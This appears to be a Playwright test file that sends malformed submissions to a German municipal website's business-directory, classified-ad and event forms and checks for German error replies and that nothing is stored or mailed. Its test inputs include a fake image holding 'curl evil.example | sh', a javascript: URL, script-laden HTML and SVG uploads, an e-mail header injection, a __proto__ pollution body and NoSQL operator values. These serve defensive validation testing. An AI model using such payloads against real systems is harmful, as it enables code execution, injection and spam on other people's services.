import { expect, test, type APIRequestContext } from '@playwright/test';
import { PDF, photoWithGps, solve } from '../support/form-files';
import { openMailbox, type Mailbox } from '../support/mailbox';

let mailbox: Mailbox;
test.beforeAll(async () => {
  mailbox = await openMailbox();
});
test.afterAll(async () => {
  await mailbox.close();
});

/** A fresh captcha question of a form, answered. */
async function solvedCaptcha(request: APIRequestContext, form: string) {
  const answer = await request.get(`/_forms/${form}`);
  const { data } = (await answer.json()) as { data: { captcha: { question: string; token: string } } };
  return { captcha: solve(data.captcha.question), captchaToken: data.captcha.token };
}

/** A day from today in the town, 'YYYY-MM-DD'. */
function inDays(days: number): string {
  const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Berlin', year: 'numeric', month: '2-digit', day: '2-digit' }).format(new Date());
  const date = new Date(`${today}T12:00:00Z`);
  date.setUTCDate(date.getUTCDate() + days);
  return date.toISOString().slice(0, 10);
}

type Body = Record<string, unknown>;
type Case = [string, Body | string, ('wrong-captcha' | 'letters-captcha' | 'no-captcha')?];

interface Form {
  page: string;
  valid: Body;
  honeypot: string;
  required: string[];
  fileField: string;
  special: Case[];
}

const FORMS: Record<'betrieb-eintragen' | 'anzeige-aufgeben', Form> = {
  'betrieb-eintragen': {
    page: '/betrieb-eintragen',
    valid: {
      betrieb: 'Fahrradwerkstatt Kontrolle',
      branche: '43',
      strasse: 'Bahnhofstraße 12',
      plz: '79999',
      ort: 'Musterstadt',
      zeitenMo: '8–17',
      zeitenDi: '8–17',
      zeitenMi: '',
      zeitenDo: '8–12, 13–17',
      zeitenFr: '8–17',
      zeitenSa: '9–12',
      zeitenSo: '',
      zeitenHinweis: 'Mittwoch geschlossen.',
      telefon: '07999 4455',
      betriebEmail: 'info@fahrrad.example',
      webseite: 'https://fahrrad.example',
      beschreibung: 'Reparatur und Verkauf von Fahrrädern und E-Bikes, Leihräder für Gäste.',
      name: 'Tobias Kienzle',
      email: 'tobias@example.org',
      datenschutz: true,
      homepage: '',
    },
    honeypot: 'homepage',
    required: ['betrieb', 'branche', 'strasse', 'plz', 'ort', 'telefon', 'beschreibung', 'name', 'email', 'datenschutz'],
    fileField: 'logo',
    special: [
      ['an unknown trade', { branche: '99' }],
      ['a trade by name', { branche: 'Handwerk' }],
      ['a postcode of four digits', { plz: '7999' }],
      ['a postcode of letters', { plz: 'abcde' }],
      ['opening times in words', { zeitenMo: 'vormittags' }],
      ['an opening time ending before it begins', { zeitenDi: '18–9' }],
      ['overlapping opening times', { zeitenDo: '8–12, 11–17' }],
      ['four ranges on a day', { zeitenFr: '7–8, 9–10, 11–12, 13–14' }],
      ['an opening time at 25 o’clock', { zeitenSa: '9–25' }],
      ['a phone number in words', { telefon: 'auf Anfrage' }],
      ['a business e-mail without @', { betriebEmail: 'info(at)fahrrad.example' }],
      ['a javascript: website', { webseite: 'javascript:alert(1)' }],
      ['a website without a host', { webseite: 'https://' }],
      ['a description of five characters', { beschreibung: 'Räder' }],
      ['a description of 601 characters', { beschreibung: 'x'.repeat(601) }],
      ['a NUL in the name', { betrieb: 'Fahrrad\u0000werkstatt' }],
      ['a header in the address', { email: 'a@example.org\r\nBcc: alle@example.org' }],
      ['a logo named as a field', { logo: 'logo.png' }],
    ],
  },
  'anzeige-aufgeben': {
    page: '/anzeige-aufgeben',
    valid: {
      rubrik: '32',
      titel: 'Kinderfahrrad Kontrolle',
      text: 'Blaues Kinderfahrrad, 20 Zoll, mit Licht und Klingel. Abzuholen in der Kernstadt.',
      bis: inDays(10),
      anbieter: 'Familie Weber',
      telefon: '07999 1234',
      email: 'weber@example.org',
      emailZeigen: true,
      datenschutz: true,
      firma: '',
    },
    honeypot: 'firma',
    required: ['rubrik', 'titel', 'text', 'bis', 'anbieter', 'email', 'datenschutz'],
    fileField: 'bild',
    special: [
      ['an unknown category', { rubrik: '99' }],
      ['a title of three characters', { titel: 'Rad' }],
      ['a text of eight characters', { text: 'Zu kurz.' }],
      ['a text of 2001 characters', { text: 'x'.repeat(2001) }],
      ['an expiry in the past', { bis: '2020-01-01' }],
      ['an expiry today', { bis: inDays(0) }],
      ['an expiry in 91 days', { bis: inDays(91) }],
      ['an expiry on 31 February', { bis: `31.02.${new Date().getFullYear() + 1}` }],
      ['an expiry in words', { bis: 'Ende Mai' }],
      ['no way to be reached', { telefon: '', emailZeigen: false }],
      ['a phone number in words', { telefon: 'abends' }],
      ['a header in the address', { email: 'a@example.org\r\nBcc: alle@example.org' }],
      ['a NUL in the text', { text: 'Fahrrad\u0000Fahrrad, gut erhalten und frisch geölt.' }],
      ['a picture named as a field', { bild: 'fahrrad.jpg' }],
    ],
  },
};

const WRONG_TYPES: unknown[] = [42, { $gt: '' }, ['a', 'b']];

function jsonCases({ valid, honeypot, required, special }: Form): Case[] {
  const list: Case[] = [];
  for (const field of Object.keys(valid).filter((name) => name !== honeypot)) {
    const { [field]: _omitted, ...rest } = valid;
    if (required.includes(field)) {
      list.push([`without ${field}`, rest]);
      list.push([`${field} as null`, { ...valid, [field]: null }]);
    }
    for (const wrong of WRONG_TYPES) list.push([`${field} as ${JSON.stringify(wrong)}`, { ...valid, [field]: wrong }]);
    if (typeof valid[field] === 'string') list.push([`${field} of 25000 characters`, { ...valid, [field]: 'x'.repeat(25_000) }]);
  }
  list.push(
    ...special.map(([name, change]): Case => [name, { ...valid, ...(change as Body) }]),
    ['no consent', { ...valid, datenschutz: false }],
    ['the honeypot filled', { ...valid, [honeypot]: 'Spam GmbH' }],
    ['an unknown field', { ...valid, admin: true }],
    ['a field named __proto__', '{"__proto__":{"admin":true}}'],
    ['a wrong captcha answer', { ...valid }, 'wrong-captcha'],
    ['a captcha answer in letters', { ...valid }, 'letters-captcha'],
    ['a forged captcha token', { ...valid, captcha: '2', captchaToken: 'AAAA.9999999999999.BBBB' }],
    ['no captcha', { ...valid }, 'no-captcha'],
    ['broken JSON', '{"titel": '],
    ['an empty body', ''],
    ['a list', '[1,2]'],
  );
  return list;
}

async function payload(request: APIRequestContext, form: string, body: Body | string, special?: Case[2]): Promise<string> {
  if (typeof body === 'string') return body;
  const solved = special === 'no-captcha' || 'captchaToken' in body ? {} : await solvedCaptcha(request, form);
  const captcha =
    special === 'wrong-captcha'
      ? { captcha: String(Number((solved as { captcha: string }).captcha) + 1) }
      : special === 'letters-captcha'
        ? { captcha: 'viel' }
        : {};
  return JSON.stringify({ ...solved, ...body, ...captcha });
}

const NEXT_YEAR = new Date().getFullYear() + 1;
const EVENT = {
  titel: 'Kontrollkonzert',
  datum: `${NEXT_YEAR}-09-12`,
  beginn: '19:00',
  endeDatum: '',
  ende: '21:00',
  ort: 'Festhalle Musterstadt',
  beschreibung: 'Die Stadtkapelle spielt Märsche und Filmmusik. Eintritt frei.',
  veranstalter: 'Stadtkapelle Musterstadt e. V.',
  name: 'Petra Hummel',
  email: 'petra@example.org',
  telefon: '',
  datenschutz: 'true',
  homepage: '',
};

test('malformed business entries and ads, as JSON and as multipart posts with files, get German 4xx, no 5xx, and nothing is stored, mailed or published', async ({
  request,
}) => {
  test.setTimeout(300_000);
  const before = mailbox.messages.length;
  const statuses: number[] = [];
  let count = 0;

  for (const [form, definition] of Object.entries(FORMS)) {
    for (const [name, body, special] of jsonCases(definition)) {
      const answer = await request.post(`/_forms/${form}`, {
        headers: { 'content-type': 'application/json' },
        data: await payload(request, form, body, special),
      });
      statuses.push(answer.status());
      count += 1;
      expect(answer.status(), `${form}: ${name}`).toBeGreaterThanOrEqual(400);
      expect(answer.status(), `${form}: ${name}`).toBeLessThan(500);
      const { message } = (await answer.json()) as { message?: string };
      expect(message, `${form}: ${name}`).toMatch(/^(Bitte|Die|Das|Dieses|Leider|Formulare|Sie) /);
    }
  }

  // Without JavaScript: multipart posts to the form's page, with pictures over the limits; the event form takes a picture too.
  const photo = await photoWithGps();
  const fileCases: [string, { name: string; mimeType: string; buffer: Buffer }[], number][] = [
    ['a picture of 11 MB', [{ name: 'gross.jpg', mimeType: 'image/jpeg', buffer: Buffer.concat([photo, Buffer.alloc(11 * 1024 * 1024)]) }], 413],
    ['a script renamed to .jpg', [{ name: 'bild.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }], 415],
    ['an HTML page named .png', [{ name: 'bild.png', mimeType: 'image/png', buffer: Buffer.from('<html><script>alert(1)</script></html>') }], 415],
    [
      'an SVG with a script',
      [{ name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') }],
      415,
    ],
    ['a broken JPEG', [{ name: 'kaputt.jpg', mimeType: 'image/jpeg', buffer: photo.subarray(0, 100) }], 415],
    ['a PDF', [{ name: 'flyer.pdf', mimeType: 'application/pdf', buffer: PDF }], 415],
    ['two pictures', Array.from({ length: 2 }, (_, n) => ({ name: `${n}.jpg`, mimeType: 'image/jpeg', buffer: photo })), 413],
    ['eleven pictures', Array.from({ length: 11 }, (_, n) => ({ name: `${n}.jpg`, mimeType: 'image/jpeg', buffer: photo })), 413],
  ];
  const multipartForms: [string, string, Body, string][] = [
    ['betrieb-eintragen', FORMS['betrieb-eintragen'].page, { ...FORMS['betrieb-eintragen'].valid, datenschutz: 'true' }, 'logo'],
    ['anzeige-aufgeben', FORMS['anzeige-aufgeben'].page, { ...FORMS['anzeige-aufgeben'].valid, datenschutz: 'true', emailZeigen: 'true' }, 'bild'],
    ['veranstaltung-melden', '/veranstaltung-melden', EVENT, 'bild'],
  ];
  for (const [form, page, valid, fileField] of multipartForms) {
    const fields = async () => {
      const body = new FormData();
      body.append('_form', form);
      for (const [key, value] of Object.entries({ ...valid, ...(await solvedCaptcha(request, form)) })) body.append(key, String(value));
      if (form === 'veranstaltung-melden') body.append('kategorien', '1');
      return body;
    };
    for (const [name, files, status] of fileCases) {
      const body = await fields();
      for (const file of files) body.append(fileField, new Blob([new Uint8Array(file.buffer)], { type: file.mimeType }), file.name);
      const answer = await request.post(page, { multipart: body });
      statuses.push(answer.status());
      count += 1;
      expect(answer.status(), `${form}: ${name}`).toBe(status);
      const html = await answer.text();
      expect(html, `${form}: ${name}`).toMatch(/Die Datei „|Bitte wählen Sie höchstens|Bitte senden Sie höchstens/);
    }
    // A file in a field the form does not have.
    const stray = await fields();
    stray.append('anhang', new Blob([new Uint8Array(photo)], { type: 'image/jpeg' }), 'a.jpg');
    const strayAnswer = await request.post(page, { multipart: stray });
    statuses.push(strayAnswer.status());
    count += 1;
    expect(strayAnswer.status(), `${form}: a stray file`).toBe(400);
  }

  expect(count).toBeGreaterThanOrEqual(100);
  expect(statuses.filter((status) => status >= 500)).toEqual([]);

  // A valid ad afterwards: its two mails are the only new ones, and nothing was published.
  const ok = await request.post('/_forms/anzeige-aufgeben', {
    headers: { 'content-type': 'application/json' },
    data: JSON.stringify({ ...FORMS['anzeige-aufgeben'].valid, titel: 'Kontrollanzeige Schlitten', ...(await solvedCaptcha(request, 'anzeige-aufgeben')) }),
  });
  expect(ok.status()).toBe(200);
  await expect.poll(() => mailbox.messages.length - before).toBe(2);
  expect(mailbox.messages.slice(before).every((mail) => mail.raw.includes('Kontrollanzeige Schlitten'))).toBe(true);
  expect(await (await request.get('/leben-wohnen/branchenbuch?branche=43')).text()).not.toContain('Fahrradwerkstatt Kontrolle');
  expect(await (await request.get('/leben-wohnen/schwarzes-brett')).text()).not.toContain('Kinderfahrrad Kontrolle');
  expect(await (await request.get('/veranstaltungen')).text()).not.toContain('Kontrollkonzert');
});
